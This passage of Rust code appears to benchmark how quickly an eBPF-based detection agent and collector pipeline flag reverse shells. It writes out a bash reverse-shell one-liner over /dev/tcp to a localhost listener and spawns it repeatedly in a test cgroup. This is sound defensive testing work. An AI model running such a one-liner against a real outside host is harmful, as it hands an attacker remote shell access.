                tokio::spawn(async move {
                    let _ = stream.write_all(b"exit\n").await;
                    // Read the prompt and whatever else until the shell is
                    // gone (bounded).
                    let mut sink = [0u8; 1024];
                    let _ = tokio::time::timeout(Duration::from_secs(10), async {
                        while matches!(stream.read(&mut sink).await, Ok(n) if n > 0) {}
                    })
                    .await;
                });
            }
        });
        Ok(ShellListener {
            port,
            accepted,
            task,
        })
    }
}

impl Drop for ShellListener {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// The cgroup the shells run in, and the empty home directory they get
/// (an interactive bash reads `~/.bashrc`: the machine's own, e.g. one that
/// runs `pyenv init`, would start dozens of processes per shell). Whatever
/// still runs in the cgroup is killed when it is dropped, also on failure.
struct ShellCgroup {
    cgroup: TestCgroup,
    home: tempfile::TempDir,
}

impl ShellCgroup {
    fn create() -> Result<ShellCgroup> {
        Ok(ShellCgroup {
            cgroup: TestCgroup::create("bench-detection")?,
            home: tempfile::Builder::new()
                .prefix("zt-bench-shell-home-")
                .tempdir()?,
        })
    }

    /// Starts one reverse shell in the cgroup: `bash -c '<script>' <marker>`
    /// (the marker is the script's `$0`, the exec row's `argv[4]`).
    fn spawn_shell(&self, port: u16, marker: &str) -> Result<Child> {
        let script = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
        let mut command = Command::new("/bin/bash");
        command
            .args(["-c", &script, marker])
            .env("HOME", self.home.path())
            .env_remove("BASH_ENV")
            .env_remove("ENV")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        // The child joins the cgroup before it executes.
        self.cgroup.join_on_exec(&mut command)?;
        command
            .spawn()
            .context("starting a reverse shell in the bench cgroup")
    }
}

impl Drop for ShellCgroup {
    fn drop(&mut self) {
        // cgroup v2's `cgroup.kill` (Linux 5.14+); the cgroup itself is
        // removed by `TestCgroup` once empty.
        if std::fs::write(self.cgroup.path().join("cgroup.kill"), "1").is_ok() {
            let deadline = Instant::now() + Duration::from_secs(5);
            while std::fs::read_to_string(self.cgroup.procs_file())
                .is_ok_and(|procs| !procs.trim().is_empty())
                && Instant::now() < deadline
            {
                std::thread::sleep(Duration::from_millis(20));
            }
        }
    }
}

/// Waits (bounded) for the shells to end; kills those that do not.
fn reap(children: Vec<Child>) -> usize {
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut killed = 0;
    for mut child in children {
        loop {
            match child.try_wait() {
                Ok(Some(_)) => break,
                Ok(None) if Instant::now() < deadline => {
                    std::thread::sleep(Duration::from_millis(10));
                }
                _ => {
                    let _ = child.kill();
                    let _ = child.wait();
                    killed += 1;
                    break;
                }
            }
        }
    }
    killed
}

async fn latency(
    clickhouse: &ClickHouseServer,
    agent_binary: &std::path::Path,
    shells: usize,
    agent_delay_ms: Option<u64>,
    collector_delay_ms: Option<u64>,
) -> Result<LatencyResult> {
    let database = fresh_database_name("bench_detection_latency");
    let state = collector_state()?;
    let collector = start_collector(
        clickhouse,
        &database,
        state.path(),
        true,
        collector_delay_ms,
    )
    .await?;
    let dir = tempfile::tempdir()?;
    let mut agent = zt_e2e::bench::start_enrolled_agent(
        collector.state_dir(),
        collector.local_addr(),
        "bench-detection",
        agent_binary,
        agent_delay_ms,
        dir.path(),
    )
    .await?;
    let cgroup = Arc::new(ShellCgroup::create()?);
    let listener = ShellListener::start().await?;
    let client = clickhouse.client().with_database(&database);
    let prefix = format!("zt-bench-{}-", uuid::Uuid::new_v4().simple());

    // Warm-up: one shell, seen end to end, so the stream is open and hot;
    // its incident names the process tree every later shell groups into
    // (the machine's other reverse shells, if any, have other trees).
    let warm_up = format!("{prefix}warmup");
    let mut warm_child = cgroup.spawn_shell(listener.port, &warm_up)?;
    let tree_root = match warm_up_tree_root(&client, &warm_up).await {
        Ok(root) => root,
        Err(e) => bail!("{e:#}; agent log:\n{}", agent.log()),
    };
    let _ = warm_child.wait();
    let base = tally_incidents(&client, &tree_root).await?.alerts;
    eprintln!("shells' process tree: {tree_root:?}, {base} alert(s) after the warm-up");

    // The shells start on their own thread, on a fixed schedule; this task
    // polls.
    let marker_prefix = format!("{prefix}m");
    let spawner = {
        let cgroup = cgroup.clone();
        let prefix = marker_prefix.clone();
        let port = listener.port;
        std::thread::spawn(move || -> Result<(Vec<Instant>, usize)> {
            let start = Instant::now();
            let mut times = Vec::with_capacity(shells);
            let mut children = Vec::with_capacity(shells);
            for i in 0..shells {
                let at = start + SHELL_SPACING * i as u32;
                std::thread::sleep(at.saturating_duration_since(Instant::now()));
                times.push(Instant::now());
                match cgroup.spawn_shell(port, &format!("{prefix}{i}")) {
                    Ok(child) => children.push(child),
                    Err(e) => {
                        reap(children);
                        return Err(e);
                    }
                }
            }
            Ok((times, reap(children)))
        })
    };
    let poll_until = Instant::now() + SHELL_SPACING * shells as u32 + LATENCY_GRACE;
    // Per shell: when the incident counted it; when its row was seen, and
    // the row's kernel time.
    let mut counted_at: Vec<Option<(Instant, SystemTime)>> = vec![None; shells];
    let mut rows: HashMap<String, (Instant, u64)> = HashMap::new();
    let mut incidents = 0;
    let pattern = format!("{marker_prefix}%");
    while (counted_at.iter().any(Option::is_none) || rows.len() < shells)
        && Instant::now() < poll_until
    {
        let (tally, markers) = tokio::join!(
            tally_incidents(&client, &tree_root),
            poll_markers(&client, &pattern)
        );
        let (tally, markers) = (tally?, markers?);
        let (now, wall) = (Instant::now(), SystemTime::now());
        incidents = tally.incidents;
        let counted = tally.alerts.saturating_sub(base) as usize;
        for slot in counted_at.iter_mut().take(counted.min(shells)) {
            slot.get_or_insert((now, wall));
        }
        for row in markers {
            rows.entry(row.marker).or_insert((now, row.time_ns));
        }
        tokio::time::sleep(POLL_EVERY).await;
    }
    let (spawned, killed) = spawner
        .join()
        .map_err(|_| anyhow::anyhow!("shell thread panicked"))??;
    if killed > 0 {
        eprintln!("warning: {killed} shells did not end within 10 s and were killed");
    }
    let final_tally = tally_incidents(&client, &tree_root).await?;

    let mut latencies = Vec::new();
    let mut row_latencies = Vec::new();
    let mut row_to_incident = Vec::new();
    let mut kernel_latencies = Vec::new();
    for (i, at) in spawned.iter().enumerate() {
        let row = rows.get(&format!("{marker_prefix}{i}"));
        if let Some((row_seen, _)) = row {
            row_latencies.push(row_seen.saturating_duration_since(*at));
        }
        if let Some((seen, wall)) = counted_at[i] {
            latencies.push(seen.saturating_duration_since(*at));
            if let Some((row_seen, time_ns)) = row {
                row_to_incident.push(seen.saturating_duration_since(*row_seen));
                kernel_latencies.push(Duration::from_nanos(unix_ns(wall).saturating_sub(*time_ns)));
            }
        }
    }
    eprintln!(
        "spawn → incident by shell, ms: {:?}",
        counted_at
            .iter()
            .zip(&spawned)
            .map(|(seen, at)| seen.map_or(-1, |(seen, _)| {
                seen.saturating_duration_since(*at).as_millis() as i64
            }))
            .collect::<Vec<_>>()
    );
    for list in [
        &mut latencies,
        &mut row_latencies,
        &mut row_to_incident,
        &mut kernel_latencies,
    ] {
        list.sort_unstable();
    }
    let connections = listener.accepted.load(Ordering::Relaxed);
    drop(listener);
    drop(cgroup);
    let status = agent.terminate(Duration::from_secs(15));
    ensure!(
        status.is_some_and(|s| s.success()),
        "agent did not stop cleanly ({status:?}):\n{}",
        agent.log()
    );
    collector.shutdown().await?;
    drop_database(clickhouse, &database).await;
    ensure!(
        final_tally.alerts - base == shells as u64,
        "{shells} shells, but the incident counted {} (rows seen: {})",
        final_tally.alerts - base,
        rows.len()
    );
    Ok(LatencyResult {
        agent_delay_ms,
        collector_delay_ms,
        shells,
        counted: latencies.len(),
        incidents,
        connections,
        p50: percentile(&latencies, 50.0),
        p90: percentile(&latencies, 90.0),
        p99: percentile(&latencies, 99.0),
        max: latencies.last().copied().unwrap_or_default(),
        row_p50: percentile(&row_latencies, 50.0),
        row_p99: percentile(&row_latencies, 99.0),
        row_to_incident_p50: percentile(&row_to_incident, 50.0),
        row_to_incident_max: row_to_incident.last().copied().unwrap_or_default(),
        kernel_p50: percentile(&kernel_latencies, 50.0),
        kernel_p99: percentile(&kernel_latencies, 99.0),
    })
}

#[derive(Debug, clickhouse::Row, serde::Deserialize)]
struct Link {
    incident_id: String,
}

/// Waits for the warm-up shell's exec row, then for the incident its
/// alert joined (through `incident_events`), and returns that incident's
/// process tree root (`pid:exe` of the topmost ancestor below pid 1: the
/// program that started this bench, so other reverse shells on the machine
/// do not count).
async fn warm_up_tree_root(client: &clickhouse::Client, marker: &str) -> Result<String> {
    let deadline = Instant::now() + LATENCY_GRACE;
    let row = loop {
        if let Some(row) = poll_markers(client, marker).await?.into_iter().next() {
            break row;
        }
        ensure!(
            Instant::now() < deadline,
            "warm-up shell's exec not in ClickHouse within {LATENCY_GRACE:?}"
        );
        tokio::time::sleep(POLL_EVERY).await;
    };
    let id = event_id(EventTable::Process, row.seq);
    let incident = loop {
        let links = client
            .query(
                "SELECT incident_id FROM incident_events WHERE event_id = ? AND event_time_ns = ?",
            )
            .bind(id)
            .bind(row.time_ns)
            .fetch_all::<Link>()
            .await
            .context("looking up the warm-up shell's incident")?;
        if let Some(link) = links.into_iter().next() {
            break link.incident_id;
        }
        ensure!(
            Instant::now() < deadline,
            "no incident links the warm-up shell's exec within {LATENCY_GRACE:?}"
        );
        tokio::time::sleep(POLL_EVERY).await;
    };
    // The links are written before the incident's row: wait for the row.
    loop {
        let root = client
            .query("SELECT process_tree_root FROM incidents FINAL WHERE incident_id = ? LIMIT 1")
            .bind(&incident)
            .fetch_optional::<String>()
            .await
            .context("reading the warm-up incident's process tree")?;
        if let Some(root) = root {
            return Ok(root);
        }
        ensure!(
            Instant::now() < deadline,
            "incident {incident} links the warm-up shell's exec, but is not stored within \
             {LATENCY_GRACE:?}"
        );
        tokio::time::sleep(POLL_EVERY).await;
    }
}

fn print_latency(results: &[LatencyResult], shells: usize) {
    println!(
        "## Kernel event → incident stored (real zt-agent, eBPF → gRPC → collector → \
         ClickHouse → detection → `incidents`)\n"
    );
    println!(
        "{shells} reverse shells `bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'`, {} ms \
         apart, in a test cgroup, against a local listener that answers `exit`; ClickHouse \
         polled every {} ms. Latency = first poll whose `{REVERSE_SHELL_RULE}` incident \
         count includes the shell − time just before its spawn.\n",
        SHELL_SPACING.as_millis(),
        POLL_EVERY.as_millis()
    );
    println!(
        "| agent batch_max_delay_ms | collector max_delay_ms | shells counted | incidents | \
         p50 | p90 | p99 | max | exec row stored p50 / p99 | row → incident p50 / max | \
         kernel event time → incident p50 / p99 |"
    );
    println!("|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|");
    let show = |ms: Option<u64>, default: u64| match ms {
        Some(ms) => ms.to_string(),
        None => format!("{default} (default)"),
    };
    let ms = |d: Duration| d.as_millis();
    for r in results {
        println!(
            "| {} | {} | {}/{} ({} connected) | {} | {} ms | {} ms | {} ms | {} ms | {} / {} ms | {} / {} ms | {} / {} ms |",
            show(r.agent_delay_ms, AGENT_DEFAULT_DELAY_MS),
            show(r.collector_delay_ms, BatchConfig::default().max_delay_ms),
            r.counted,
            r.shells,
            r.connections,
            r.incidents,
            ms(r.p50),
            ms(r.p90),
            ms(r.p99),
            ms(r.max),
            ms(r.row_p50),
            ms(r.row_p99),
            ms(r.row_to_incident_p50),
            ms(r.row_to_incident_max),
            ms(r.kernel_p50),
            ms(r.kernel_p99),
        );
    }
    println!();
}

// ------------------------------------------------------------------- helpers

fn unix_secs() -> u32 {
    u32::try_from(unix_ns(SystemTime::now()) / 1_000_000_000).unwrap_or(u32::MAX)
}

/// `/proc/loadavg`'s first three fields: how busy the shared machine was.
fn load_average() -> String {
    std::fs::read_to_string("/proc/loadavg")
        .unwrap_or_default()
        .split_whitespace()
        .take(3)
        .collect::<Vec<_>>()
        .join(" ")
}
